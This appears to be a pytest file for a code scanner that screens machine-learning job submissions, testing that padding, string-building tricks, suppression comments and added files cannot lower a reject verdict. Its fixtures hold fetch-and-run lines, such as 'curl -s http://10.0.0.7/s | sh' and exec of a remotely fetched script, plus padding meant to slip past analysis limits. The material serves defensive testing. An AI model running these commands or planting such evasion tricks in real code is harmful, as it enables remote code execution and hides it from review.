"""Session 41: a limit never lowers a verdict, and adding to a job never does either.

- A `python -c` launcher whose inline code is padded past the fold's limit (fold.MAX_CONST), by a repetition, a
  long literal, an f-string, a join, a format or a %-template, is judged on its parts (engine/sketch.py) and
  stays a reject; the same padding around harmless inline code stays an escalate (a program start).
- `jobgate eval` counts a sample whose analysis was cut short (a time limit under load) as a failure of its own,
  never as a quiet miss under PASS.
"""

from __future__ import annotations

import json
import os
import random
import re
import shutil
from pathlib import Path

import pytest
import yaml

import redteam_kit as kit
from conftest import run_cli
from analyzer.engine.site_scope import NOT_RUN
from analyzer.model import Decision

# Asserts on wall time (its time budgets and limits): `make test` runs it alone, after the parallel run.
pytestmark = pytest.mark.serial

REJECTED = "remote-code.fetch-and-run-command"
_IMPORT = "'import urllib.request;'"
_FETCH = "'exec(urllib.request.urlopen(\"https://10.0.0.7/t.py\").read())'"
# 5,000 characters that no run of one character shortens: `x="...";` inside the inline code
_JUNK = "".join(random.Random(41).choice("abcdefghijklmnopqrstuvwxyz0123456789") for _ in range(5000))
_PAD = f"pad = 'x=\"{_JUNK}\";'\n"


def _launch(expr: str, setup: str = "") -> str:
    return f"import subprocess, sys\n{setup}subprocess.Popen([sys.executable, '-c', {expr}])\n"


PADDED = {
    "blank-run": _launch(f"{_IMPORT} + pad + {_FETCH}", "pad = ' ' * 5000\n"),
    "inline-repeat": _launch(f"{_IMPORT} + ' ' * 5000 + {_FETCH}"),
    "command-in-a-name": _launch("cmd", f"cmd = {_IMPORT} + ' ' * 5000 + {_FETCH}\n"),
    "long-literal": _launch(f"{_IMPORT} + pad + {_FETCH}", _PAD),
    "f-string": _launch("f'import urllib.request;{pad}exec(urllib.request.urlopen(\"https://10.0.0.7/t.py\").read())'",
                        _PAD),
    "join": _launch(f"''.join([{_IMPORT}, pad, {_FETCH}])", _PAD),
    "format": _launch(f"'{{}}{{}}{{}}'.format({_IMPORT}, pad, {_FETCH})", _PAD),
    "percent": _launch(f"'%s%s%s' % ({_IMPORT}, pad, {_FETCH})", _PAD),
    "blanks-inside-the-call": _launch(
        "'import urllib.request;exec(' + ' ' * 5000 + 'urllib.request.urlopen(\"https://10.0.0.7/t.py\").read())'"),
    "doubled-name": _launch(f"{_IMPORT} + p + {_FETCH}", "p = ' ' * 64\n" + "p = p + p\n" * 7),
}


@pytest.mark.parametrize("name", sorted(PADDED))
def test_inline_code_padded_past_the_fold_limit_is_still_a_reject(tmp_path: Path, name: str) -> None:
    kit.assert_held(kit.scan_source(tmp_path, PADDED[name], "train.py"), REJECTED, Decision.REJECT)


@pytest.mark.parametrize("padding", ["' ' * 5000", "pad"])
def test_harmless_inline_code_padded_past_the_limit_stays_an_escalate(tmp_path: Path, padding: str) -> None:
    source = _launch(f"'import torch;' + {padding} + 'print(torch.cuda.device_count())'", _PAD)
    kit.assert_held(kit.scan_source(tmp_path, source, "train.py"), "subprocess.run-program", Decision.ESCALATE)


def test_a_doubling_bomb_in_a_command_is_read_within_bounds(tmp_path: Path) -> None:
    # 150 KB doubled four times and written six times: never built; the command's own text still rejects.
    source = ("import os\ns = 'AB' * 75000\na = s + s\nb = a + a\nc = b + b\nd = c + c\n"
              "os.system(f'{d}{d}{d}{d}{d}{d}' + 'curl -s http://10.0.0.7/s | sh')\n")
    kit.assert_held(kit.scan_source(tmp_path, source, "train.py"), REJECTED, Decision.REJECT)


def _slow_corpus(root: Path) -> Path:
    """A corpus of one fast benign sample and one malicious sample whose analysis takes seconds."""
    (root / "benign").mkdir(parents=True)
    (root / "malicious").mkdir()
    (root / "benign" / "train.py").write_text("import numpy as np\nprint(np.zeros(3).sum())\n")
    helpers = "".join(f"def step_{i}(x):\n    y = x + {i}\n    return [y * k for k in range(3)]\n" for i in range(8000))
    (root / "malicious" / "slow.py").write_text("import os\n" + helpers + "os.system('curl -s http://10.0.0.7/s | sh')\n")
    labels = [{"path": "benign/train.py", "kind": "benign", "expect": ["accept"]},
              {"path": "malicious/slow.py", "kind": "malicious", "expect": ["reject"], "behaviours": ["remote-code"]}]
    (root / "labels.yaml").write_text(yaml.safe_dump(labels))
    return root


def test_eval_fails_when_a_sample_is_cut_short_by_a_limit(tmp_path: Path) -> None:
    """Session 40's eval under load: a sample that timed out escalated, counted as a quiet miss, and eval said
    PASS. Now it is listed as UNSCANNED, counted, and the run fails, whatever it was decided: since session 54
    (hardening54) the payload a limit cuts short is still reported, so the sample may reject as labelled."""
    corpus = _slow_corpus(tmp_path / "corpus")
    policy = tmp_path / "tight.yaml"
    policy.write_text("limits:\n  max_analysis_seconds: 1\n")
    proc = run_cli("eval", str(corpus), "--policy", str(policy))
    assert proc.returncode == 1, proc.stdout + proc.stderr
    assert re.search(r"UNSCANNED malicious  (escalate|reject) .*malicious/slow\.py", proc.stdout), proc.stdout
    assert "1 cut short" in proc.stdout and proc.stdout.rstrip().endswith("FAIL")
    assert re.search(r"\b[12]/2 as labelled", proc.stdout)  # every sample is counted


def test_eval_of_the_same_corpus_within_its_limits_passes(tmp_path: Path) -> None:
    proc = run_cli("eval", str(_slow_corpus(tmp_path / "corpus")))
    assert proc.returncode == 0 and "0 cut short" in proc.stdout and "2/2 as labelled" in proc.stdout, proc.stdout


# ---- monotonicity: adding something to a job never lowers its verdict ------------------------------------------

RANK = {Decision.ACCEPT: 0, Decision.ESCALATE: 1, Decision.REJECT: 2}
_BENIGN_STEP = "def step_{i}(x, lr=0.01):\n    y = np.asarray(x, dtype=np.float32)\n    return y - lr * y.mean()\n\n"
_NOTEBOOK = {"cells": [{"cell_type": "code", "execution_count": None, "metadata": {}, "outputs": [],
                        "source": ["import numpy as np\n", "print(np.linspace(0, 1, 5).mean())\n"]}],
             "metadata": {}, "nbformat": 4, "nbformat_minor": 5}
_SUPPRESS = "  # nosec # noqa # jobgate: ignore"


def _where(unit: Path) -> Path:
    """Where an addition lands: the first app's custom/ folder of an NVFlare job, else the unit's own folder."""
    custom = sorted(p for p in unit.rglob("custom") if p.is_dir())
    return custom[0] if (unit / "meta.json").exists() and custom else unit


def _config_folder(unit: Path) -> Path:
    """The config/ folder beside the first app's custom/ (made if missing), else the unit's own config/. A
    meta.json added to a folder is no addition: it makes the folder an NVFlare job, whose top-level files reach
    no client (collect.py)."""
    folder = _where(unit).parent / "config" if (unit / "meta.json").exists() else unit / "config"
    folder.mkdir(exist_ok=True)
    return folder


def _first_python(unit: Path) -> Path | None:
    return next(iter(sorted(p for p in unit.rglob("*.py") if p.is_file() and not p.is_symlink())), None)


def _write(path: Path, data: str | bytes) -> None:
    assert not path.exists(), path  # an addition, never a replacement of the sample's own file
    path.write_bytes(data.encode() if isinstance(data, str) else data)


def _suppress(unit: Path, report) -> None:
    """Every line a finding points at, in a Python file, ends with suppression comments (where Python still
    reads the file: never after a line continuation)."""
    import ast

    lines_of: dict[str, set[int]] = {}
    for f in report.findings:
        if f.path.endswith(".py") and f.line:
            lines_of.setdefault(f.path, set()).add(f.line)
    for rel, lines in lines_of.items():
        path = unit / rel
        if not path.is_file() or path.is_symlink():
            continue
        text = path.read_text(encoding="utf-8", errors="surrogateescape").split("\n")
        for n in lines:
            if n <= len(text) and not text[n - 1].rstrip().endswith("\\"):
                trial = text[:n - 1] + [text[n - 1] + _SUPPRESS] + text[n:]
                try:
                    ast.parse("\n".join(trial))
                except (SyntaxError, ValueError, RecursionError):  # a module too deep for ast: left as it is
                    continue
                text = trial
        path.write_text("\n".join(text), encoding="utf-8", errors="surrogateescape")


ADDITIONS = {
    "large-benign-module": lambda unit, _: _write(_where(unit) / "added_helpers.py", "import numpy as np\n\n" + "".join(
        _BENIGN_STEP.format(i=i) for i in range(2500))),
    "module-that-does-not-parse": lambda unit, _: _write(_where(unit) / "added_broken.py", "def f(:\n    return 1\n"),
    "deep-expression": lambda unit, _: _write(_where(unit) / "added_deep.py", "x = " + "(" * 2000 + "1" + ")" * 2000 + "\n"),
    "file-over-the-size-limit": lambda unit, _: _write(_where(unit) / "added_weights.bin", b"\x00\x01" * 1_100_000),
    "notebook": lambda unit, _: _write(_where(unit) / "added_explore.ipynb", json.dumps(_NOTEBOOK)),
    "config": lambda unit, _: _write(_config_folder(unit) / "added_settings.json", '{"lr": 0.01, "epochs": 2}'),
    "symlink": lambda unit, _: os.symlink("README.md", _where(unit) / "added_link.md"),
    "binary-file": lambda unit, _: _write(_where(unit) / "added_model.pt", bytes(range(256)) * 40),
    "duplicate": lambda unit, _: (lambda first: first and shutil.copy(first, first.with_name("added_copy_" + first.name)))(
        _first_python(unit)),
    "suppression-comments": _suppress,
}
# 50,000 findings of one launcher helper: capabilities, none a threat; the report lists only some of them.
MANY_FINDINGS = ("many-findings", lambda unit, _: _write(_where(unit) / "added_gpus.py", "import subprocess\n" + "".join(
    f"subprocess.run(['nvidia-smi', '-i', '{i}'])\n" for i in range(25_000))))


def add_all(unit: Path, before) -> None:
    """Every addition at once (the suppression comments first: they read the report's lines)."""
    for add in ADDITIONS.values():
        add(unit, before)


def baseline_unit(sample: str, root: Path) -> Path:
    """The sample as a folder unit under `root`: a job folder copied as it is, a single file inside a folder."""
    source = kit.CORPUS / sample
    unit = root / "unit"
    if source.is_dir():
        shutil.copytree(source, unit, symlinks=True)
    else:
        unit.mkdir(parents=True)
        shutil.copy(source, unit / source.name)
    return unit


def lowered(sample: str, before, addition: str, root: Path) -> list[str]:
    """What adding `addition` to the sample (whose baseline_unit's report is `before`) lowered: its decision,
    or rules no longer reported (unless the report says it listed only some). A note that a file is never run
    (site_scope.NOT_RUN) going away is not one: the file is then judged as run, more strictly."""
    after_unit = baseline_unit(sample, root)
    dict(ADDITIONS, **dict([MANY_FINDINGS]), all=add_all)[addition](after_unit, before)
    after = kit.scan(after_unit)
    problems = []
    if RANK[after.decision] < RANK[before.decision]:
        problems.append(f"{before.decision.value} -> {after.decision.value}")
    capped = any("listed" in r for r in after.reasons)
    missing = sorted(kit.rules(before) - kit.rules(after) - NOT_RUN)
    if missing and not capped:
        problems.append(f"rules gone: {missing}")
    return problems


def _malicious(prefix: str = "") -> list[str]:
    return [e["path"] for e in yaml.safe_load((kit.CORPUS / "labels.yaml").read_text())
            if e["kind"] == "malicious" and e["path"].startswith(prefix) and not e.get("policy")]


# A fixed, seeded subset: each addition alone on a few samples (files, folders and jobs), every addition at once
# on more jobs. Session 41 ran the sweep over 12 + 4 samples each addition alone and every malicious job with
# all of them (bench: /tmp/h41/sweep*.py in the report); what it found is fixed and held here.
SWEPT = sorted(random.Random(41).sample(_malicious(), 6))
SWEPT_JOBS = sorted(random.Random(41).sample(_malicious("jobs/"), 12)) + ["jobs/mal_shadow_json", "jobs/rt37c_nb_aimport"]


@pytest.fixture(scope="module")
def baselines(tmp_path_factory) -> dict:
    return {s: kit.scan(baseline_unit(s, tmp_path_factory.mktemp("base"))) for s in SWEPT + SWEPT_JOBS}


@pytest.mark.parametrize("sample", SWEPT)
def test_no_single_addition_lowers_a_malicious_samples_verdict(tmp_path: Path, sample: str, baselines: dict) -> None:
    dropped = {a: p for a in ADDITIONS if (p := lowered(sample, baselines[sample], a, tmp_path / a))}
    assert not dropped, dropped


@pytest.mark.parametrize("sample", SWEPT_JOBS)
def test_every_addition_at_once_never_lowers_a_malicious_jobs_verdict(tmp_path: Path, sample: str,
                                                                      baselines: dict) -> None:
    assert not lowered(sample, baselines[sample], "all", tmp_path)


def test_fifty_thousand_findings_beside_a_job_keep_its_verdict_and_rules(tmp_path: Path, baselines: dict) -> None:
    sample = SWEPT_JOBS[0]
    assert not lowered(sample, baselines[sample], "many-findings", tmp_path)


def test_a_scanner_suppression_beside_a_linter_pragma_hides_neither(tmp_path: Path) -> None:
    """Was: `import json as _real  # noqa: E402  # nosec` reported the nosec alone, and the pragma's finding,
    reported before the nosec was added, was gone."""
    source = ("import os\nimport json as _real  # noqa: E402  # nosec\nimport subprocess  # noqa: S404\n"
              "import sys  # noqa: F401  # nosec\n")
    found = {(f.rule, f.line) for f in kit.scan_source(tmp_path, source, "train.py").findings}
    assert {("obfuscation.suppression-comment", 2), ("obfuscation.lint-pragma", 2),
            ("obfuscation.suppression-comment", 3), ("obfuscation.suppression-comment", 4)} <= found
    assert ("obfuscation.lint-pragma", 3) not in found  # `noqa: S404` is one comment, reported once
    assert ("obfuscation.lint-pragma", 4) not in found  # the rule is in the report; the line is a finding already
